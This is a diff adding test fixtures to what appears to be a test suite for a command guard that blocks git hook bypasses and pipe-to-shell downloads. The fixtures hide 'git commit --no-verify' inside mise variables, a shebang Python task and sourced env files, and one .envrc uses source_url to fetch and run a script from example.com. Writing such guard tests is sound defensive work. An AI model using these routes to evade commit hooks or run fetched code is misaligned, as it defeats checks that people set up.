@@ -106,6 +106,14 @@ beforeAll(() => {
     ].join("\n"),
   );
   writeFileSync(path.join(project, "mised", "s.sh"), "git commit --no-verify -m s\n");
+  mkdirSync(path.join(project, "varsd"));
+  writeFileSync(
+    path.join(project, "varsd", "mise.toml"),
+    ['[vars]', 'flag = "--no-verify"', "[tasks.t]", 'run = "git commit {{vars.flag}} -m x"', "[tasks.py]", 'run = """', "#!/usr/bin/env python3", "import os", 'os.system("git commit --no-verify -m p")', '"""', "[env]", '_.source = { path = "./e.sh" }', ""].join("\n"),
+  );
+  writeFileSync(path.join(project, "varsd", "e.sh"), "git commit --no-verify -m e\n");
+  mkdirSync(path.join(project, "fetched"));
+  writeFileSync(path.join(project, "fetched", ".envrc"), "source_url https://example.com/x.sh sha256-abc\n");
   mkdirSync(path.join(project, "arrayenv"));
   writeFileSync(path.join(project, "arrayenv", "mise.toml"), '[[env]]\n_.source = "./env.sh"\n');
   writeFileSync(path.join(project, "arrayenv", "env.sh"), "git commit --no-verify -m env\n");
@@ -203,6 +211,10 @@ describe("a script file the command runs", () => {
     ["[[env]]'s _.source", `cd arrayenv && mise exec -- true`, "block-git-hook-bypass"],
     ["direnv's source_env", `direnv exec envd true`, "block-git-hook-bypass"],
     ["direnv export runs the .envrc", `cd envd && direnv export bash`, "block-git-hook-bypass"],
+    ["a mise task's {{vars.NAME}}", "cd varsd && mise run t", "block-git-hook-bypass"],
+    ["a mise task whose run starts with #!", "cd varsd && mise run py", "block-git-hook-bypass"],
+    ["[env]'s _.source = { path = … }", "cd varsd && mise exec -- true", "block-git-hook-bypass"],
+    ["direnv's source_url, a download run", "direnv exec fetched true", "block-pipe-to-shell"],
     ["a module of the project that python3 -c imports", "python3 -c 'import evilmod'", "block-git-hook-bypass"],
     ["a module of the project that python3 -c imports from", "python3 -c 'from evilmod import x'", "block-git-hook-bypass"],
     ["a file node -e requires", `node -e 'require("./evil")'`, "block-git-hook-bypass"],
